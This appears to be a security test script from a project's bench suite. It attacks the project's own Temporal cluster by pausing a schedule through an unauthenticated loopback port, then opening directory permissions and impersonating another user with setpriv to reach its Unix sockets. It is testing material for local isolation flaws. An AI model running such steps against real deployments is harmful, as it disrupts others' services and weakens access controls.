"""Any local user connects to Temporal, lists the sweep's schedule and pauses it."""

import asyncio
import shutil
import subprocess
from pathlib import Path
from typing import Final

from temporalio.client import Client
from temporalio.service import RPCError

from bench.support.cluster import Cluster, open_cluster

_UID: Final = 54_321
_CONNECT: Final = "import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])"


async def attack() -> str | None:
    async with open_cluster() as cluster:
        achieved = await _pause_by_port(cluster)
        return achieved or await asyncio.to_thread(_connect_as_other_user, cluster.stack.directory)


async def _pause_by_port(cluster: Cluster) -> str | None:
    """Pauses the sweep through the loopback port, which authenticates no user."""
    assert cluster.stack.temporal is not None
    try:
        client = await Client.connect(f"127.0.0.1:{cluster.stack.temporal.port}")
        found = [entry.id async for entry in await client.list_schedules()]
        await client.get_schedule_handle(f"sweep/{cluster.task_queue}").pause()
    except (RuntimeError, RPCError):
        return None
    return f"without any credential a local user saw {len(found)} schedule and paused the sweep"


def _connect_as_other_user(directory: Path) -> str | None:
    _open_way_to(directory)
    for path in directory.rglob("*.sock"):
        as_other = [shutil.which("setpriv") or "setpriv", f"--reuid={_UID}", f"--regid={_UID}", "--clear-groups"]
        command = [*as_other, "--inh-caps=-all", "--", "/usr/bin/python3", "-c", _CONNECT, str(path)]
        tried = subprocess.run(command, check=False, capture_output=True)
        if tried.returncode == 0:
            return f"another user opened {path.name}"
    return None


def _open_way_to(directory: Path) -> None:
    """Opens the directory to other users. It is in a private temporary directory, and a home may be open."""
    directory.parent.chmod(0o755)
    directory.chmod(0o755)
